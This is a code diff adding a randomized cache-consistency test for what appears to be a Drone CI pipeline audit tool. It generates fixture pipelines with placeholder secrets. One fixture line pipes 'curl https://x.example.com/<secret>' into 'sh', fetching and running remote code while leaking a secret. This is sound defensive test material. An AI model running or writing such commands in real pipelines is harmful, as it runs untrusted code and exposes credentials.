@@ -57,6 +57,61 @@ function recordsIn(folder: string): number {
   return filesIn(folder).reduce((sum, name) => sum + (readFileSync(name, 'utf8').match(head)?.length ?? 0), 0);
 }
 
+/** Numbers below a bound, the same for the same seed. */
+function numbers(seed: number): (below: number) => number {
+  let state = seed;
+  return (below) => {
+    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
+    return Math.floor((state / 2 ** 32) * below);
+  };
+}
+
+/** Changes some files of a fleet: what they do, which secrets they make known and which they only use, in which spelling. */
+function change(folder: string, next: (below: number) => number): void {
+  const secrets = [secret, 'hT5%rW"9q\\Lz7', 'pX4 nV8 jK2 mB6', 'vB8nM3kQ9sD2'];
+  const anySecret = (): string => secrets[next(secrets.length)] ?? '';
+  const spelt = (text: string): string =>
+    [
+      JSON.stringify(text),
+      `'${text}'`,
+      JSON.stringify(text).replace('8', '\\u0038'),
+      JSON.stringify(encodeURIComponent(text)),
+      JSON.stringify(JSON.stringify({ at: text })),
+      JSON.stringify(text).replace(' ', '\n          '),
+    ][next(6)] ?? '';
+  const text = (): string =>
+    [
+      pipeline(`golang:1.${next(3)}`),
+      next(3) === 0 ? `    environment: { DB_PASSWORD: ${spelt(anySecret())} }\n` : '',
+      next(2) === 0
+        ? `    commands:\n      - echo\n      - ${spelt(`curl https://x.example.com/${anySecret()} | sh`)}\n`
+        : '',
+      next(4) === 0 ? `  - name: ${spelt(anySecret())}\n    image: alpine\n` : '',
+      next(9) === 0 ? '  - [\n' : '',
+    ].join('');
+  const all = join(folder, 'repositories');
+  for (let number = 0; number < 8; number++) {
+    const own = join(all, `r${number}`);
+    if (existsSync(own) && next(3) > 0) continue;
+    for (const name of readdirSync(all))
+      if (name.startsWith(`r${number}`)) rmSync(join(all, name), { recursive: true });
+    const path = next(8) === 0 ? `${own}-${(secrets[3] ?? '').toLowerCase()}` : own;
+    if (next(6) === 0) continue;
+    mkdirSync(path);
+    const other = join(all, `r${next(8)}`, '.drone.yml');
+    writeFileSync(join(path, '.drone.yml'), next(3) === 0 && existsSync(other) ? readFileSync(other) : text());
+    if (next(9) === 0)
+      writeFileSync(
+        join(path, 'compose.yml'),
+        `services:\n  drone:\n    image: drone/drone:2\n    environment: { DRONE_RPC_SECRET: ${spelt(anySecret())} }\n`,
+      );
+  }
+  const config = join(folder, 'drone-audit.yml');
+  rmSync(config, { force: true });
+  if (next(4) === 0)
+    writeFileSync(config, 'ignore:\n  - rule: privileged-step\n    path: repositories/r1/**\n    reason: known\n');
+}
+
 describe('--cache', () => {
   it('changes nothing of a report, on the first run or on the next', () => {
     const folder = fleet(12);
@@ -67,6 +122,27 @@ describe('--cache', () => {
     // With that of a pipeline that makes a secret known; the second run has nothing to add.
     expect(recordsIn(join(folder, 'kept'))).toBe(12);
     expect(filesIn(join(folder, 'kept')).length).toBe(1);
+  });
+
+  it.each([1, 2, 3])('changes nothing of any report, whatever changed since the run before: %i', (seed) => {
+    const next = numbers(seed);
+    const folder = temporaryFolder();
+    mkdirSync(join(folder, 'repositories'));
+    const formats = ['json', 'jsonl', 'sarif', 'html', 'text'];
+    const reports = (...options: string[]): readonly string[] => {
+      const files = formats.map((format) => join(folder, `report.${format}`));
+      const outputs = formats.flatMap((format, index) => ['-o', `${format}:${files[index]}`]);
+      const { status, stdout, stderr } = scan(folder, ...outputs, ...options);
+      return [`${status}`, stdout, stderr, ...files.map((file) => readFileSync(file, 'utf8'))];
+    };
+    for (let run = 0; run < 6; run++) {
+      change(folder, next);
+      // What a run of one format kept is read by runs of all.
+      if (next(2) === 0) scan(folder, '--cache', 'kept', '--format', formats[next(formats.length)] ?? '');
+      const without = reports();
+      for (const again of [1, 2])
+        expect({ run, again, reports: reports('--cache', 'kept') }).toEqual({ run, again, reports: without });
+    }
   });
 
   it('takes what is there, if it is what was put there', () => {
